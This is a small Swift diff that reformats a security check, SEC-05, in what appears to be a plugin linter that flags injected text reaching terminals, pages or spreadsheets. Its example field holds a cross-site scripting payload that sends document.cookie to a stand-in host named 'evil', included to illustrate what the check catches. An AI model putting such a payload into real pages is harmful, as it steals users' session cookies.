@@ -4,7 +4,8 @@ extension Check {
   /// SEC-05.
   static let textInjection = Check(
     "SEC-05", "reason-injection", level: 2, .error,
-    danger: "A plugin's words reach a terminal, a page, a table, a message: what one of them takes for a command runs with "
+    danger:
+      "A plugin's words reach a terminal, a page, a table, a message: what one of them takes for a command runs with "
       + "the operator's rights.",
     example: "WTN_STR(\"<script>fetch('//evil/'+document.cookie)</script> {0}\")",
     fix: "Plain words: no control characters, no markup, no text that begins like a spreadsheet's formula.",
